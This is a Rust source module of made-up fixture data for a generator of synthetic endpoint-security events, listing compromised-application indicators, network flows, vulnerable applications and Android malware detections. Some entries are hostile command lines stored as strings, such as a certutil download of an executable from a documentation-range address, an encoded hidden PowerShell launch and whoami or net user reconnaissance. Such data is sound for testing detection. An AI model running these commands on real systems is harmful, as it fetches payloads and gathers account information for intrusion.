//! Static data of the event kinds beyond the first generator's: compromised applications,
//! network destinations, vulnerable applications, Android packages, isolation users,
//! Orbital and connector versions. Names and paths are made up in the style of the
//! captures; addresses are in the documentation ranges (RFC 5737) and domains under
//! `.example`, so nothing points at a real host.

/// One indication-of-compromise type: the application behaving as compromised (the
/// `file.parent`), what it started or dropped (the `file`), that file's disposition, and
/// the `command_line.arguments` when it launched a shell.
pub(super) struct Compromise {
    pub type_id: u32,
    pub parent: &'static str,
    pub file_name: &'static str,
    pub file_path: &'static str,
    pub disposition: &'static str,
    pub command_line: Option<&'static str>,
}

const fn c(
    type_id: u32,
    parent: &'static str,
    file_name: &'static str,
    file_path: &'static str,
    disposition: &'static str,
    command_line: Option<&'static str>,
) -> Compromise {
    Compromise {
        type_id,
        parent,
        file_name,
        file_path,
        disposition,
        command_line,
    }
}

const CMD: &str = r"\\?\C:\Windows\System32\cmd.exe";
const PS: &str = r"\\?\C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

/// Every `Kind::Compromise` type of the mix.
#[rustfmt::skip]
pub(super) const COMPROMISES: [Compromise; 21] = [
    c(1107296257, "WINWORD.EXE", "tmp8a2f.exe", r"\\?\C:\Users\Public\tmp8a2f.exe", "Malicious", None),
    c(1107296258, "explorer.exe", "svcupdate.exe", r"\\?\C:\ProgramData\svcupdate\svcupdate.exe", "Malicious", None),
    c(1107296260, "javaw.exe", "jre_update.exe", r"\\?\C:\Users\Public\jre_update.exe", "Malicious", None),
    c(1107296261, "AcroRd32.exe", "rdrsvc.exe", r"\\?\C:\Users\Public\Documents\rdrsvc.exe", "Malicious", None),
    c(1107296262, "WINWORD.EXE", "wordupd.dll", r"\\?\C:\Users\Public\Libraries\wordupd.dll", "Malicious", None),
    c(1107296263, "EXCEL.EXE", "xlsvc.exe", r"\\?\C:\Users\Public\xlsvc.exe", "Malicious", None),
    c(1107296264, "POWERPNT.EXE", "pptsvc.exe", r"\\?\C:\Users\Public\pptsvc.exe", "Malicious", None),
    c(1107296265, "javaw.exe", "cmd.exe", CMD, "Clean", Some("cmd.exe /c whoami /all")),
    c(1107296266, "AcroRd32.exe", "cmd.exe", CMD, "Clean", Some("cmd.exe /c start /b %TEMP%\\rdr.exe")),
    c(1107296267, "WINWORD.EXE", "powershell.exe", PS, "Clean", Some("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=")),
    c(1107296268, "EXCEL.EXE", "cmd.exe", CMD, "Clean", Some("cmd.exe /c certutil -urlcache -f http://198.51.100.23/a.exe %TEMP%\\a.exe")),
    c(1107296269, "POWERPNT.EXE", "cmd.exe", CMD, "Clean", Some("cmd.exe /c %APPDATA%\\pp.bat")),
    c(1107296270, "QuickTimePlayer.exe", "qtsvc.exe", r"\\?\C:\Users\Public\qtsvc.exe", "Malicious", None),
    c(1107296271, "QuickTimePlayer.exe", "cmd.exe", CMD, "Clean", Some("cmd.exe /c net user")),
    c(1107296275, "calc.exe", "calcsvc.exe", r"\\?\C:\Users\Public\calcsvc.exe", "Malicious", None),
    c(1107296276, "notepad.exe", "ntpsvc.exe", r"\\?\C:\Users\Public\ntpsvc.exe", "Malicious", None),
    c(1107296278, "explorer.exe", "rarely_seen.exe", r"\\?\C:\Users\Public\Downloads\rarely_seen.exe", "Malicious", None),
    c(1107296280, "chrome.exe", "invoice_2021.pdf.exe", r"\\?\C:\Users\Public\Downloads\invoice_2021.pdf.exe", "Malicious", None),
    c(1107296281, "hh.exe", "help_update.exe", r"\\?\C:\Users\Public\help_update.exe", "Malicious", None),
    c(1107296282, "WINWORD.EXE", "cscript.exe", r"\\?\C:\Windows\System32\cscript.exe", "Clean", Some("cscript.exe //nologo //E:jscript C:\\Users\\Public\\Documents\\notes.txt")),
    c(1107296283, "w3wp.exe", "cmd.exe", CMD, "Clean", Some("cmd.exe /c \"cd /d C:\\inetpub\\wwwroot & whoami\"")),
];

/// Destinations of network events: (remote ip, remote port, protocol, dirty url or "",
/// the process behind the flow).
pub(super) const FLOWS: [(&str, u16, &str, &str, &str); 6] = [
    (
        "198.51.100.23",
        443,
        "TCP",
        "https://cdn-update.example/check",
        "rundll32.exe",
    ),
    (
        "198.51.100.77",
        8080,
        "TCP",
        "http://198.51.100.77:8080/gate.php",
        "powershell.exe",
    ),
    (
        "203.0.113.200",
        80,
        "TCP",
        "http://x7kq2vz9mw.example/index.php?id=4",
        "svchost.exe",
    ),
    ("192.0.2.145", 53, "UDP", "", "svchost.exe"),
    ("198.51.100.9", 4444, "TCP", "", "mshta.exe"),
    (
        "203.0.113.61",
        443,
        "TCP",
        "https://login-office365.example/auth",
        "chrome.exe",
    ),
];

/// `detection` of DFC events (the list that matched).
pub(super) const DFC_DETECTIONS: [&str; 2] = ["DFC.CustomIPList", "DFC.IPBlockList"];

/// One vulnerable application: (name, version, file name, path, [(cve, CVSS score)]).
type Vuln = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static [(&'static str, f32)],
);

/// The first is the reference's example (SOAR: Microsoft Office 2013, CVE-2014-0260, 9.3).
pub(super) const VULNERABLE_APPS: [Vuln; 4] = [
    (
        "Microsoft Office",
        "2013",
        "WINWORD.EXE",
        r"\\?\C:\Program Files\Microsoft Office\Office15\WINWORD.EXE",
        &[("CVE-2014-0260", 9.3)],
    ),
    (
        "Google Chrome",
        "87.0.4280.88",
        "chrome.exe",
        r"\\?\C:\Program Files\Google\Chrome\Application\chrome.exe",
        &[("CVE-2021-21148", 8.8), ("CVE-2021-21142", 8.8)],
    ),
    (
        "Oracle Java",
        "8.0.2410.7",
        "java.exe",
        r"\\?\C:\Program Files\Java\jre1.8.0_241\bin\java.exe",
        &[("CVE-2020-14583", 8.3)],
    ),
    (
        "Mozilla Firefox",
        "84.0",
        "firefox.exe",
        r"\\?\C:\Program Files\Mozilla Firefox\firefox.exe",
        &[("CVE-2021-23953", 6.1)],
    ),
];

/// Android packages: (detection, package directory).
pub(super) const APKS: [(&str, &str); 3] = [
    ("Andr.Trojan.Joker::tpd", "com.free.wallpaper.hd-1"),
    ("Andr.Adware.Hiddad::1201", "com.cleaner.boost-2"),
    ("Andr.Malware.Agent::in10", "com.pdf.reader.lite-1"),
];

/// Console users who isolate computers.
pub(super) const ISOLATION_USERS: [&str; 3] =
    ["Test User", "soc.analyst@example.com", "sebridge (API)"];

/// `isolation.error_code` of failed isolation requests. Made up: the reference gives the
/// key, not its values.
pub(super) const ISOLATION_ERRORS: [u32; 3] = [409, 500, 503];

/// Orbital versions: (version, previous version).
pub(super) const ORBITAL_VERSIONS: [(&str, &str); 3] = [
    ("1.21.2", "1.20.5"),
    ("1.22.0", "1.21.2"),
    ("1.20.5", "1.19.3"),
];

/// Connector package versions in `bp_data` (numbers, as the Sentinel schema types them).
pub(super) const PACKAGE_VERSIONS: [(u64, u64); 3] =
    [(21650, 21585), (21585, 21542), (21542, 21301)];
